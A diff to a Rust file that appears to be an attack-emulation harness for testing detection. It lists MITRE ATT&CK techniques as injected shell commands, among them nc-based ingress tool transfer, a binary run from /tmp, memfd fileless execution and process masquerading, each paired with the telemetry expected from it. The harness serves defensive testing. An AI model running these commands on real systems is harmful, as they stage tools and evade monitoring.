@@ -106,7 +106,7 @@ const TECHNIQUES: &[Technique] = &[
         record!(PROCESSES, &["/bin/sh "])),
     // Not with wget: Debian's busybox-static 1.35 wget dies of SIGSEGV before it opens a
     // socket, so it would transfer nothing and only its exec would be seen.
-    injected("T1105", "Ingress tool transfer (HTTP over nc)", 0, "printf 'GET /index.html HTTP/1.0\\r\\n\\r\\n' | nc -w 3 {peer} 8080 > /tmp/tool", record!(EGRESS, &["{peer}:8080/"])),
+    injected("T1105", "Ingress tool transfer (HTTP over nc)", 0, "printf 'GET /index.html HTTP/1.0\\r\\n\\r\\n' | nc -w 3 {peer} 8080 > /tmp/fetched", record!(EGRESS, &["{peer}:8080/"])),
     injected("T1204.002", "Downloaded binary run from /tmp", 0, "cp /bin/busybox /tmp/tool; /tmp/tool true", record!(PROCESSES, &["/tmp/tool"])),
     injected("T1620", "Fileless execution from a memfd", 0, "/usr/local/bin/attack memfd-exec", record!(PROCESSES, &["/dev/fd/", "memfd:"])),
     injected("T1036.005", "Masquerading: a learned name in another place", 0, "cp /bin/busybox /tmp/httpd; /tmp/httpd true", record!(PROCESSES, &["/tmp/httpd"])),
